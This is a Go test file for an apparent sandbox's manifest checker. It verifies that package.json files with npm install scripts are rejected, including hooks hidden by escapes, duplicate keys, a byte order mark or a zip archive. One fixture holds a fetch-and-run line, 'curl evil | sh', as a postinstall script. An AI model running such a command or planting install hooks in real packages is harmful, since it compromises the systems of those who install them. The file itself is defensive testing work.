package artifact

import (
	"archive/zip"
	"bytes"
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock/sandbox"
)

// TestManifest runs package.json files through Check: install scripts,
// however they are hidden (escapes, duplicate keys, a byte order mark),
// are rejected; other scripts and other JSON files pass.
func TestManifest(t *testing.T) {
	tests := []struct {
		name, content string
		verdict       string
		reason        string
	}{
		{"package.json", `{"name": "x", "version": "1.0.0"}`, sandbox.VerdictAccepted, ""},
		{"package.json", `{"scripts": {"test": "jest", "build": "tsc", "start": "node ."}}`, sandbox.VerdictAccepted, ""},
		{"package.json", `{"scripts": null}`, sandbox.VerdictAccepted, ""},
		{"package.json", `{"scripts": {"postinstall": "curl evil | sh"}}`, sandbox.VerdictRejected, "install scripts (postinstall)"},
		{"package.json", `{"scripts": {"preinstall": "x", "install": "y"}}`, sandbox.VerdictRejected, "(preinstall, install)"},
		{"package.json", `{"scripts": {"prepare": "x"}}`, sandbox.VerdictRejected, "(prepare)"},
		{"package.json", `{"scripts": {"prepack": "x", "dependencies": "y"}}`, sandbox.VerdictRejected, "(prepack, dependencies)"},
		{"package.json", `{"scripts": {"pnpm:devPreinstall": "x"}}`, sandbox.VerdictRejected, "pnpm:devPreinstall"},
		{"package.json", `{"scripts": {"\u0070ostinstall": "x"}}`, sandbox.VerdictRejected, "(postinstall)"},
		{"package.json", `{"scripts": {"postinstall": "x"}, "scripts": {}}`, sandbox.VerdictRejected, "(postinstall)"},
		{"package.json", "\uFEFF" + `{"scripts": {"install": "x"}}`, sandbox.VerdictRejected, "(install)"},
		{"package.json", `{"scripts": "postinstall"}`, sandbox.VerdictRejected, "cannot be ruled out"},
		{"package.json", `[{"scripts": {"install": "x"}}]`, sandbox.VerdictRejected, "cannot be ruled out"},
		{"package.json", `{"scripts": {"install": "x"`, sandbox.VerdictRejected, "cannot be ruled out"},
		{"package.json", `{"name": "x"} {"scripts": {"install": "x"}}`, sandbox.VerdictRejected, "cannot be ruled out"},
		{"package.json", "<html><script>x</script></html>", sandbox.VerdictRejected, "does not hold JSON text"},
		{"package.json", "{\"name\": \"x\"}\x00", sandbox.VerdictRejected, "binary"},
		{"package.json", `{"name":"` + strings.Repeat("x", maxManifestBytes) + `"}`, sandbox.VerdictRejected, "too large"},
		{"app/Package.JSON", `{"scripts": {"postinstall": "x"}}`, sandbox.VerdictRejected, "(postinstall)"},
		{"data.json", `{"scripts": {"postinstall": "x"}}`, sandbox.VerdictAccepted, ""},
		{"package.json.txt", `{"scripts": {"postinstall": "x"}}`, sandbox.VerdictAccepted, ""},
	}
	for _, tt := range tests {
		out := &memOutput{}
		a, err := Check(t.Context(), tt.name, strings.NewReader(tt.content), int64(len(tt.content)), out, testPolicy())
		if err != nil {
			t.Fatalf("%s %.60q: %v", tt.name, tt.content, err)
		}
		if a.Verdict != tt.verdict || !strings.Contains(a.Reason, tt.reason) {
			t.Errorf("%s %.60q: %s %q, want %s with %q", tt.name, tt.content, a.Verdict, a.Reason, tt.verdict, tt.reason)
		}
		if a.Verdict == sandbox.VerdictAccepted && out.String() != tt.content {
			t.Errorf("%s %.60q: written as %.60q", tt.name, tt.content, out.String())
		}
	}
}

// TestManifestInArchive: the rule holds for a package.json inside a zip
// archive, which is unpacked before anyone runs npm in it.
func TestManifestInArchive(t *testing.T) {
	for _, tt := range []struct {
		content, verdict string
	}{
		{`{"scripts": {"postinstall": "x"}}`, sandbox.VerdictRejected},
		{`{"scripts": {"test": "x"}}`, sandbox.VerdictAccepted},
	} {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		w, err := z.Create("pkg/package.json")
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(tt.content))
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
		a, err := Check(t.Context(), "a.zip", bytes.NewReader(b.Bytes()), int64(b.Len()), &memOutput{}, testPolicy())
		if err != nil || a.Verdict != tt.verdict || tt.verdict == sandbox.VerdictRejected && !strings.Contains(a.Reason, "entry pkg/package.json: package.json has install scripts") {
			t.Errorf("a zip holding package.json %s: %+v %v, want %s", tt.content, a, err, tt.verdict)
		}
	}
}
